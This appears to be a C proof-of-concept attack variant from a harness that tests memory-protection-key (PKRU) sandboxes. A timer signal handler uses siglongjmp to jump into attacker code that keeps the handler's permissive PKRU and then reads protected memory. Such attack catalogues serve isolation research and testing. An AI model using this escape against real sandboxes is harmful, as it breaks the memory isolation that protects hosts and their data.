/* D11: siglongjmp out of a signal handler keeps the PKRU that the handler had: the
 * kernel's initial one, or what the handler was given since. Here the handler interrupts
 * the host at work and jumps into the attacker's code.
 *
 * Source: [pkeys(7)] on PKRU in handlers; siglongjmp(3) restores no PKRU.
 */
#include <setjmp.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <unistd.h>
#include "attack.h"

#define TICK_US 2000

static sigjmp_buf back;

static void jump(int number) {
    (void)number;
    if (target.host_works) siglongjmp(back, 1);
}

/* The frame is dead when it is jumped into: nothing of it is used, and it never returns. */
static void out_of_the_handler(void) {
    struct itimerval timer = {{0, TICK_US}, {0, TICK_US}}, never = {{0, 0}, {0, 0}};
    if (sigsetjmp(back, 1)) {
        setitimer(ITIMER_REAL, &never, NULL);
        attack_read();
        syscall(SYS_exit_group, 0);
    }
    TRY("signal", signal(SIGALRM, jump) == SIG_ERR ? -1 : 0);
    TRY("setitimer", setitimer(ITIMER_REAL, &timer, NULL));
}

static void end(void) {
    struct itimerval never = {{0, 0}, {0, 0}};
    TRY("setitimer", setitimer(ITIMER_REAL, &never, NULL));
}

const struct attack attacks[] = {
    {.variant = "out-of-handler", .attack = out_of_the_handler, .again = end, .flags = ATTACK_HOST_WORKS | ATTACK_HOST_WAITS},
    {0},
};
